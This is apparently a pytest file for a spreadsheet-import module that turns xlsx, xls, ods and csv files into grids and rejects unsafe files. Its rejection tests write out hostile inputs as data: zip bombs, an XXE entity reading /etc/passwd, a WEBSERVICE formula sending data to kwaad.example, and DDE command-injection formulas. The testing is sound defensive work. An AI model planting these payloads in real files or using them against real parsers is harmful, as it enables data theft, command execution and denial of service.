"""Files of every kind become grids; files that mean harm become a sentence."""

import io
import struct
import zipfile
from collections.abc import Callable
from datetime import date, time
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from tandem.core.sheets import Grid, Marks, UnreadableFile, read_workbook

FILES = Path(__file__).parent / "files"


def workbook(write: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        write(book)
    return buffer.getvalue()


def marked(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("Groep 5")
    struck = book.add_format({"font_strikeout": True})
    yellow = book.add_format({"bg_color": "yellow"})
    day = book.add_format({"num_format": "dd-mm-yyyy"})
    sheet.merge_range("A1:C1", "Groepslijst")
    sheet.write_row("A2", ["Llnr", "Naam", "Geb.dat."])
    sheet.write_row("A3", [101, "Noor  Bakker\u00a0"])
    sheet.write_datetime("C3", date(2016, 5, 4), day)
    sheet.write_row("A4", [102, "Sem Visser"], struck)
    sheet.write_row("A5", [103, "Lina Smit"])
    sheet.set_row(4, None, None, {"hidden": True})
    sheet.write("B6", "Daan", yellow)
    sheet.write_comment("B6", "verhuist")
    sheet.write_formula("A7", "=COUNTA(A3:A6)", None, 4)
    sheet.write_rich_string("B8", struck, "Weg", struck, "gegaan")
    sheet.set_column("D:D", None, None, {"hidden": True})
    book.add_worksheet("Oud").hide()
    book.get_worksheet_by_name("Oud").write("A1", 1.5)


def test_read_workbook_keeps_values_and_marks_of_xlsx() -> None:
    data = workbook(marked)

    assert read_workbook("lijst.xlsx", data) == (
        Grid(
            file="lijst.xlsx",
            name="Groep 5",
            rows=(
                ("Groepslijst", None, None),
                ("Llnr", "Naam", "Geb.dat."),
                (101, "Noor  Bakker", date(2016, 5, 4)),
                (102, "Sem Visser", None),
                (103, "Lina Smit", None),
                (None, "Daan", None),
                (4, None, None),
                (None, "Weggegaan", None),
            ),
            marks=Marks(
                hidden_rows=frozenset({4}),
                hidden_columns=frozenset({3}),
                struck=frozenset({(3, 0), (3, 1), (7, 1)}),
                formulas=frozenset({(6, 0)}),
                coloured=frozenset({(5, 1)}),
                commented=frozenset({(5, 1)}),
                merged=((0, 0, 0, 2),),
            ),
        ),
        Grid(file="lijst.xlsx", name="Oud", rows=((1.5,),), hidden=True),
    )


@pytest.mark.parametrize("name", ["marks.xls", "marks.ods"])
def test_read_workbook_keeps_marks_of_older_and_open_formats(name: str) -> None:
    (grid,) = read_workbook(name, (FILES / name).read_bytes())

    assert (grid.name, grid.rows[1][:3], grid.marks) == (
        "Groep 5",
        (101, "Noor Bakker", date(2016, 5, 4)),
        Marks(hidden_rows=frozenset({3}), struck=frozenset({(2, 0), (2, 1)})),
    )


def test_read_workbook_goes_by_the_content_not_by_the_name() -> None:
    (grid,) = read_workbook("export.csv", (FILES / "marks.xls").read_bytes())

    assert grid.rows[1][3] == time(8, 30)


TEXT = "Leerling;Groep\nNaïma 't Hart;5\nŁukasz Öztürk;7/8\n"
WESTERN = "Leerling;Groep\nNaïma €uro;5\n"


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (TEXT.encode(), TEXT),
        (TEXT.encode("utf-8-sig"), TEXT),
        (TEXT.encode("utf-16"), TEXT),
        (TEXT.encode("utf-16-le"), TEXT),
        (TEXT.encode("utf-16-be"), TEXT),
        (WESTERN.encode("cp1252"), WESTERN),
        ("Leerling;Groep\nNaïma;5\n".encode().decode("cp1252").encode(), "Leerling;Groep\nNaïma;5\n"),
        (TEXT.replace(";", ",").encode(), TEXT),
        (TEXT.replace(";", "\t").encode(), TEXT),
        (TEXT.replace(";", "|").encode(), TEXT),
        (b"sep=;\r\n" + TEXT.replace("\n", "\r\n").encode(), TEXT),
    ],
    ids=["utf-8", "bom", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "twice", "comma", "tab", "pipe", "sep"],
)
def test_read_workbook_recognises_encoding_and_separator(data: bytes, text: str) -> None:
    (grid,) = read_workbook("lijst.csv", data)

    assert grid.rows == tuple(tuple(line.split(";")) for line in text.strip().split("\n"))


def test_read_workbook_keeps_the_comma_inside_a_name_and_a_leading_zero() -> None:
    (grid,) = read_workbook("lijst.csv", b'"Berg, van den";01\n"Smit, Lina";02\n')

    assert grid.rows == (("Berg, van den", "01"), ("Smit, Lina", "02"))


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (101 * 1024 * 1024))
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """Say 10 bytes where 101 MB stands: both the local and the central header are rewritten."""
    data = bytearray(bomb())
    size = struct.pack("<L", 101 * 1024 * 1024)
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<L", 10)
    return bytes(data)


def rows(count: int) -> bytes:
    def write(book: xlsxwriter.Workbook) -> None:
        sheet = book.add_worksheet()
        for row in range(count):
            sheet.write_number(row, 0, row)

    return workbook(write)


def with_formula(formula: str) -> bytes:
    return workbook(lambda book: book.add_worksheet().write_formula("A1", formula) and None)


def far_away(book: xlsxwriter.Workbook) -> None:
    book.add_worksheet().write("XFD1", 1)


def with_entities() -> bytes:
    data = workbook(lambda book: book.add_worksheet().write("A1", "a") and None)
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/sharedStrings.xml":
                content = content.replace(
                    b"<sst", b'<!DOCTYPE sst [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst', 1
                ).replace(b">a<", b">&a;<")
            target.writestr(name, content)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.xlsx", bomb(), "100 MB"),
        ("a.xlsx", lying_bomb(), "beschadigd"),
        ("a.xlsx", rows(50_001), "50.000 rijen"),
        ("a.csv", b"1;2\n" * 50_001, "50.000 rijen"),
        ("a.xlsx", workbook(far_away), "1.000 kolommen"),
        ("a.xlsx", with_formula('=WEBSERVICE("http://kwaad.example/"&B1)'), "buiten het bestand"),
        ("a.xlsx", with_formula("=cmd|'/C calc'!A0"), "buiten het bestand"),
        ("a.csv", b"naam;groep\n=cmd|'/C calc'!A0;5\n", "buiten het bestand"),
        ("a.xlsx", with_entities(), "beschadigd"),
        ("a.xlsx", b"", "leeg"),
        ("a.xlsx", b"gewoon tekst", "beschadigd"),
        ("a.csv", b"%PDF-1.7 ...", "pdf"),
        ("a.xls", b"<html><table><tr><td>1</td></tr></table></html>", "webpagina"),
        ("a.csv", bytes(range(256)) * 20, "geen lijst"),
        ("a.xlsx", rows(3)[:900], "beschadigd"),
        ("a.xls", (FILES / "marks.xls").read_bytes()[:3000], "beschadigd"),
        ("a.ods", (FILES / "marks.ods").read_bytes()[:900], "beschadigd"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "wachtwoord"),
    ],
    ids=lambda value: value if isinstance(value, str) and " " in value else None,
)
def test_read_workbook_refuses_with_a_sentence(name: str, data: bytes, words: str) -> None:
    with pytest.raises(UnreadableFile, match=words):
        read_workbook(name, data)


@given(st.binary(max_size=400), st.sampled_from(["", "PK\x03\x04", "\xd0\xcf\x11\xe0"]))
def test_read_workbook_never_raises_anything_else(data: bytes, magic: str) -> None:
    try:
        grids = read_workbook("a.csv", magic.encode("latin-1") + data)
    except UnreadableFile:
        return
    assert all(len(row) == grid.width for grid in grids for row in grid.rows)
